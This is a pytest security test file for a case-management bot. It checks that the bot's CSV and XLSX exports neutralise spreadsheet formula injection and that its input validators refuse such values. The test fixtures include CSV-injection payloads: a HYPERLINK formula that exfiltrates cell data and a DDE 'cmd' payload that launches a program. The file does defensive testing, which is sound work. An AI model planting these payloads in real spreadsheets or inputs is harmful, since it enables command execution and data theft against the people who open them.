"""Finding 3: every CSV and XLSX the product writes is inert: a cell a person or an import file
supplied never becomes a formula (OWASP CSV-injection rule; XLSX text cells are strings)."""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest
from openpyxl import load_workbook

from bot.app import App
from bot.cli_cases import get_export_rows, render
from bot.cli_officials import render_report_text
from handlers.intake.validators import (
    InvalidAnswerError,
    parse_ethnicity,
    parse_name,
    parse_place,
)
from handlers.officials.workbook import render_report_xlsx
from storage.crypto import Cipher, resolve_key
from storage.models import Case, Unit, utcnow
from storage.report import Report, UnitFigures
from storage.sheet_cells import csv_cell
from storage.status import AllocationStatus, Status

HOSTILE = [
    '=HYPERLINK("http://x"&B2,"Xem")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
]


def test_the_owasp_rule() -> None:
    for value in HOSTILE:
        assert csv_cell(value) == "'" + value
    for value in ("Nguyễn Văn An", "Thôn 3", "0912345678", "", "a=b"):
        assert csv_cell(value) == value
    assert csv_cell(-5) == -5 and csv_cell(None) is None


def _formulas(data: bytes) -> list[str]:
    book = load_workbook(io.BytesIO(data))
    found = [
        f"{sheet.title}!{cell.coordinate}={cell.value!r}"
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type in ("f", "e")
    ]
    return found


async def test_cases_export_is_inert(sqlite_app: App) -> None:
    app = sqlite_app
    async with app.db.session() as session, session.begin():
        unit = Unit(code="X1", name=HOSTILE[2], name_key="x", kind="xã")
        session.add(unit)
        await session.flush()
        for n, value in enumerate(HOSTILE, start=1):
            # As an old row or a bypassed validator could hold them.
            session.add(Case(ref=f"HY-2026-{n:05d}", kind="abroad", unit_id=unit.id,
                             full_name=value, village=value, ethnicity=value[:60],
                             created_at=utcnow()))
    box = Cipher(resolve_key(app.settings.encryption_key, app.settings.environment))
    async with app.db.session() as session:
        rows = await get_export_rows(session, box, app.settings)
    assert len(rows) == len(HOSTILE)

    text = render(rows, "csv").decode("utf-8-sig")
    table = list(csv.DictReader(io.StringIO(text, newline="")))
    assert [r["Họ và tên"] for r in table] == ["'" + v for v in HOSTILE]
    assert {r["Xã"] for r in table} == {"'-2+3"}
    for record in table:
        for value in record.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value

    data = render(rows, "xlsx")
    assert _formulas(data) == []
    sheet = load_workbook(io.BytesIO(data)).active
    names = [sheet.cell(r, 4).value for r in range(2, 2 + len(HOSTILE))]
    # Kept as typed (XML turns a CR into a LF), shown as text.
    assert names == [v.replace("\r", "\n") for v in HOSTILE]
    assert all(sheet.cell(r, 4).quotePrefix for r in range(2, 2 + len(HOSTILE)))


def test_baocao_workbook_and_report_text_are_inert() -> None:
    figures = UnitFigures(unit_id=1, code="X1", name=HOSTILE[0], classes=2, trainees=30)
    report = Report(start=date(2026, 1, 1), end=date(2026, 6, 30), programs=[HOSTILE[3]],
                    units=[figures])
    plan = [AllocationStatus(1, 1, "X1", HOSTILE[1], HOSTILE[3], 2026, 30, 5,
                             date(2026, 7, 15), Status.OVERDUE)]
    data = render_report_xlsx(report, plan)
    assert _formulas(data) == []
    book = load_workbook(io.BytesIO(data))
    values = {c.value for s in book.worksheets for row in s.iter_rows() for c in row}
    assert HOSTILE[0] in values and HOSTILE[1] in values
    lines = render_report_text(report).splitlines()
    assert any(line.startswith("'" + HOSTILE[0]) for line in lines)


def test_free_text_answers_that_would_be_formulas_are_refused() -> None:
    for parse in (parse_name, parse_place, parse_ethnicity):
        for value in HOSTILE:
            with pytest.raises(InvalidAnswerError):
                parse(value)
